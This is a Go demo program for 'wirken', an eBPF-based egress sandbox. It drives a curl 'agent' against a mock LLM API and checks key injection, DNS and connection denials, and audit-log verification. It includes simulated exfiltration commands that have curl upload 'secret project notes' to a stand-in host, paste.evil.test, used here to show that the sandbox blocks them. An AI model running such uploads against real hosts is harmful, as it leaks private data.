// Command demo is `make demo`: wirken's story in one run, told in plain words. It expects to
// run as root inside a throwaway network namespace (the Makefile starts it with `unshare --net`)
// and drives the wirken binary it is given like an operator would: a mock LLM API that needs
// a key, the key in the vault, an unmodified agent (curl) that calls the API without the key,
// an exfiltration attempt that is refused, and an audit log that verifies. It cleans up its
// cgroups, pinned programs and files, and exits non-zero if any step does not hold.
package main

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"errors"
	"flag"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/wirken/wirken/demo/zone"
)

func main() {
	bin := flag.String("wirken", "bin/wirken", "the wirken `binary` to demonstrate")
	flag.Parse()
	d := &demo{}
	err := d.run(*bin)
	d.cleanup()
	if err != nil {
		fmt.Fprintf(os.Stderr, "\ndemo FAILED: %v\n", err)
		if d.logs.Len() > 0 {
			fmt.Fprintf(os.Stderr, "\nthe daemon's log:\n%s", d.logs.String())
		}
		os.Exit(1)
	}
	fmt.Println("\ndemo passed: the agent got its answer without ever holding the key, the exfiltration was refused, and the audit log proves what happened.")
}

type demo struct {
	bin, dir, config, cgroup, pinDir string
	daemon                           *exec.Cmd
	logs                             bytes.Buffer
	stopDNS                          func()
}

func say(format string, a ...any) { fmt.Printf("\n==> "+format+"\n", a...) }

func (d *demo) wirken(stdin string, args ...string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, d.bin, args...)
	cmd.Env = append(os.Environ(), "WIRKEN_CONFIG="+d.config)
	cmd.Stdin = strings.NewReader(stdin)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	if err != nil {
		return out.String(), fmt.Errorf("wirken %s: %w: %s", strings.Join(args, " "), err, out.String())
	}
	return out.String(), nil
}

func (d *demo) run(bin string) error {
	if os.Geteuid() != 0 {
		return errors.New("run me as root (make demo): wirken loads eBPF programs and manages cgroups")
	}
	var err error
	if d.bin, err = filepath.Abs(bin); err != nil {
		return err
	}
	// Loopback in this fresh namespace, and the two "internet" hosts on it.
	if out, err := exec.Command("ip", "link", "set", "lo", "up").CombinedOutput(); err != nil {
		return fmt.Errorf("bringing up loopback (is this a fresh network namespace?): %v: %s", err, out)
	}
	uniq := make([]byte, 4)
	rand.Read(uniq)
	id := hex.EncodeToString(uniq)
	if d.dir, err = os.MkdirTemp("", "wirken-demo-"); err != nil {
		return err
	}
	os.Chmod(d.dir, 0o711) // the agent user reaches the public CA bundle in state/
	d.config = filepath.Join(d.dir, "wirken.toml")
	d.cgroup = "wirken-demo-" + id
	d.pinDir = "/sys/fs/bpf/wirken-demo-" + id

	key := "sk-demo-" + hex.EncodeToString(uniq) + "-never-shown-to-the-agent"
	say("A mock LLM API at https://api.llm.test (127.0.0.2:443) answers only requests that carry its API key.")
	ca, err := newCA()
	if err != nil {
		return err
	}
	var llmCalls, pasteConns atomic.Int64
	llm := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		llmCalls.Add(1)
		if r.Header.Get("Authorization") != "Bearer "+key {
			http.Error(w, `{"error":"missing or wrong API key"}`, http.StatusUnauthorized)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{"model": "mock-gpt", "choices": []any{map[string]any{
			"message": map[string]string{"role": "assistant", "content": "Hello! I am the mock model, and your request carried a valid key."}}},
			"usage": map[string]int{"prompt_tokens": 12, "completion_tokens": 14}})
	})
	if err := ca.serve("127.0.0.2:443", "api.llm.test", llm, nil); err != nil {
		return err
	}
	say("A paste site at https://paste.evil.test (127.0.0.3:443) stands for anywhere an agent could leak data to.")
	if err := ca.serve("127.0.0.3:443", "paste.evil.test", http.NotFoundHandler(), &pasteConns); err != nil {
		return err
	}
	names, err := zone.Start(map[string]string{"api.llm.test": "127.0.0.2", "paste.evil.test": "127.0.0.3"})
	if err != nil {
		return err
	}
	d.stopDNS = names.Close
	say("This network's DNS server (%s) knows both names; wirken's resolver forwards to it.", names.Addr)

	policy := `version = 1

# The agent: a group of processes started with wirken exec, run as nobody.
[agents.assistant]
user = "nobody"

# The LLM API key: a vault secret, injected only toward api.llm.test.
[credentials.llm]
secret = "llm-key"
hosts = ["api.llm.test"]
header = "Authorization"
format = "Bearer {secret}"

# The one thing the agent may do: call the LLM API. Everything else is denied.
[[rules]]
name = "assistant-llm"
agent = "assistant"
hosts = ["api.llm.test"]
ports = [443]
methods = ["POST"]
paths = ["/v1/"]
credential = "llm"
`
	config := fmt.Sprintf(`policy = "policy.toml"
state_dir = "state"
control_socket = "state/control.sock"
[proxy]
port = 15001
upstream_ca_files = ["mock-ca.pem"]
[audit]
checkpoint_interval = 0.2
[cgroup]
root = %q
[bpf]
pin_dir = %q
[dns]
upstreams = [%q]
[log]
format = "json"
`, d.cgroup, d.pinDir, names.Addr)
	for name, data := range map[string][]byte{"policy.toml": []byte(policy), "wirken.toml": []byte(config), "mock-ca.pem": ca.pem} {
		if err := os.WriteFile(filepath.Join(d.dir, name), data, 0o644); err != nil {
			return err
		}
	}
	say("The policy lets agent \"assistant\" POST to https://api.llm.test/v1/ with the key injected; everything else is denied:")
	fmt.Print(indent(policy))

	say("The operator creates the vault and the interception CA, and stores the API key (read from stdin, never from the command line).")
	for _, args := range [][]string{{"vault", "init"}, {"ca", "init"}} {
		if _, err := d.wirken("", args...); err != nil {
			return err
		}
	}
	if _, err := d.wirken(key+"\n", "vault", "put", "--host", "api.llm.test", "llm-key"); err != nil {
		return err
	}
	out, _ := d.wirken("", "vault", "list")
	fmt.Print(indent(out))

	say("wirken starts: eBPF programs now steer every connection of the agent's cgroup into its proxy.")
	if err := d.startDaemon(); err != nil {
		return err
	}

	say("The agent (plain curl, no key, no proxy settings) asks the LLM API a question:")
	body := `{"model":"mock-gpt","messages":[{"role":"user","content":"Say hello."}]}`
	out, err = d.agent("curl", "-sS", "--max-time", "20", "--fail-with-body",
		"-H", "Content-Type: application/json", "-d", body, "https://api.llm.test/v1/chat/completions")
	if err != nil {
		return fmt.Errorf("the agent's call to the LLM API failed: %w", err)
	}
	var answer struct {
		Choices []struct {
			Message struct{ Content string } `json:"message"`
		} `json:"choices"`
	}
	if json.Unmarshal([]byte(out), &answer) != nil || len(answer.Choices) == 0 {
		return fmt.Errorf("the LLM API's answer is not what the mock sends: %q", out)
	}
	fmt.Printf("    the model says: %q\n", answer.Choices[0].Message.Content)
	fmt.Println("    wirken injected the key on the way; the mock API checked it.")
	// The agent's resolver is whatever /etc/resolv.conf names; only the kernel's steering can
	// have brought its query to wirken, and only wirken knows this DNS server's address.
	if !names.Asked("api.llm.test") {
		return errors.New("the DNS server was never asked for api.llm.test: the agent's DNS did not go through wirken")
	}
	fmt.Println("    the agent's DNS went through wirken: the kernel steered its query for api.llm.test to wirken's resolver, which asked this network's DNS server (api.llm.test is 127.0.0.2) and remembered the answer; the proxy serves only names the agent resolved so.")

	say("Does the agent hold the key anywhere? Its environment:")
	env, err := d.agent("env")
	if err != nil {
		return err
	}
	if strings.Contains(env, key) {
		return errors.New("the key is in the agent's environment")
	}
	fmt.Println("    no key in the agent's environment; it trusts wirken's CA through SSL_CERT_FILE and friends.")

	say("The agent tries to upload data to https://paste.evil.test:")
	out, err = d.agent("curl", "-sS", "--max-time", "20", "-d", "secret project notes", "https://paste.evil.test/upload")
	if err == nil {
		return fmt.Errorf("the upload succeeded: %q", out)
	}
	if names.Asked("paste.evil.test") {
		return errors.New("wirken forwarded the agent's query for paste.evil.test, which no rule names")
	}
	fmt.Printf("    refused: curl says %q\n", lastLine(out))
	fmt.Println("    wirken's resolver answered NXDOMAIN (no rule names paste.evil.test) and never asked the DNS server.")

	say("The agent knows the paste site's address anyway and connects to 127.0.0.3 directly:")
	out, err = d.agent("curl", "-sS", "--max-time", "20", "--resolve", "paste.evil.test:443:127.0.0.3",
		"-d", "secret project notes", "https://paste.evil.test/upload")
	if err == nil {
		return fmt.Errorf("the upload succeeded: %q", out)
	}
	if n := pasteConns.Load(); n != 0 {
		return fmt.Errorf("the paste site received %d connections", n)
	}
	fmt.Printf("    refused: curl says %q\n", lastLine(out))
	fmt.Println("    the paste site received no connection at all.")

	say("The agent tries the LLM API with a path the rule does not allow (GET /admin):")
	out, _ = d.agent("curl", "-sS", "--max-time", "20", "-i", "https://api.llm.test/admin")
	if !strings.Contains(out, "403") {
		return fmt.Errorf("want a 403 from wirken, got %q", out)
	}
	fmt.Printf("    wirken answered: %s\n", firstLine(out))
	if llmCalls.Load() != 1 {
		return fmt.Errorf("the LLM API received %d requests; want exactly the allowed one", llmCalls.Load())
	}

	say("The audit log, as `wirken audit tail` shows it:")
	// The daemon seals a checkpoint every 0.2 s here; give it one.
	time.Sleep(500 * time.Millisecond)
	out, err = d.wirken("", "audit", "tail", "-n", "40")
	if err != nil {
		return err
	}
	fmt.Print(indent(out))
	for _, want := range []string{"dns.query", "credential.use", "dns.deny", "conn.deny", "request.deny"} {
		if !strings.Contains(out, want) {
			return fmt.Errorf("the audit log has no %s record", want)
		}
	}
	if strings.Contains(out, key) {
		return errors.New("the key is in the audit log")
	}

	say("wirken audit verify checks every record, the hash chain and the signed checkpoints:")
	out, err = d.wirken("", "audit", "verify")
	if err != nil {
		return err
	}
	fmt.Print(indent(out))
	if strings.Contains(d.logs.String(), key) {
		return errors.New("the key is in the daemon's log")
	}
	return nil
}

func (d *demo) agent(argv ...string) (string, error) {
	return d.wirken("", append([]string{"exec", "--agent", "assistant", "--"}, argv...)...)
}

func (d *demo) startDaemon() error {
	d.daemon = exec.Command(d.bin, "run", "--config", d.config)
	d.daemon.Stdout, d.daemon.Stderr = &d.logs, &d.logs
	if err := d.daemon.Start(); err != nil {
		return err
	}
	exited := make(chan error, 1)
	go func() { exited <- d.daemon.Wait() }()
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); {
		if _, err := d.wirken("", "status"); err == nil {
			return nil
		}
		select {
		case err := <-exited:
			d.daemon = nil
			return fmt.Errorf("the daemon exited during start-up: %v", err)
		case <-time.After(100 * time.Millisecond):
		}
	}
	return errors.New("the daemon did not start within 20 s")
}

// cleanup stops the daemon and removes the demo's cgroups, pinned programs and files.
func (d *demo) cleanup() {
	if d.daemon != nil && d.daemon.Process != nil {
		d.daemon.Process.Signal(syscall.SIGTERM)
		done := make(chan struct{})
		go func() { d.daemon.Process.Wait(); close(done) }()
		select {
		case <-done:
		case <-time.After(15 * time.Second):
			d.daemon.Process.Kill()
		}
	}
	if _, err := os.Stat(d.config); err == nil && d.cgroup != "" {
		// What an operator runs to remove wirken from a host, pointed at the demo's config.
		cmd := exec.Command(d.bin, "uninstall", "--root", d.dir, "--prefix", filepath.Join(d.dir, "prefix"), "--config", d.config, "--force", "--purge")
		if out, err := cmd.CombinedOutput(); err != nil {
			fmt.Fprintf(os.Stderr, "cleanup: %v: %s\n", err, out)
		}
	}
	if d.dir != "" {
		os.RemoveAll(d.dir)
	}
	if d.stopDNS != nil {
		d.stopDNS()
	}
}

type ca struct {
	cert *x509.Certificate
	key  *ecdsa.PrivateKey
	pem  []byte
}

func newCA() (*ca, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "demo upstream CA"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		KeyUsage: x509.KeyUsageCertSign, BasicConstraintsValid: true, IsCA: true}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return nil, err
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		return nil, err
	}
	return &ca{cert: cert, key: key, pem: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})}, nil
}

// serve runs an HTTPS server for name on addr with a leaf from the CA, counting connections.
func (c *ca) serve(addr, name string, h http.Handler, conns *atomic.Int64) error {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return err
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: name},
		DNSNames: []string{name}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, c.cert, &key.PublicKey, c.key)
	if err != nil {
		return err
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return fmt.Errorf("listening on %s: %w", addr, err)
	}
	srv := &http.Server{Handler: h, ReadHeaderTimeout: 5 * time.Second,
		TLSConfig: &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}},
		ConnState: func(_ net.Conn, s http.ConnState) {
			if s == http.StateNew && conns != nil {
				conns.Add(1)
			}
		}}
	go srv.ServeTLS(ln, "", "")
	return nil
}

func indent(s string) string {
	var b strings.Builder
	for _, l := range strings.Split(strings.TrimRight(s, "\n"), "\n") {
		b.WriteString("    " + l + "\n")
	}
	return b.String()
}

func firstLine(s string) string { return strings.TrimSpace(strings.SplitN(s, "\n", 2)[0]) }

func lastLine(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return strings.TrimSpace(lines[len(lines)-1])
}
